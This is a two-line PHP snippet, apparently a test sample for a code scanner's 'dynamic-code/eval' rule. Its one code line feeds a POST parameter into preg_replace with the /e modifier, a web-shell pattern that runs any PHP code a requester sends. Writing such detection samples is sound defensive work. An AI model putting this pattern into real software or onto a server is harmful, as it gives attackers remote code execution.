<?php // finds: dynamic-code/eval
preg_replace('/.*/e', $_POST['x'], '');
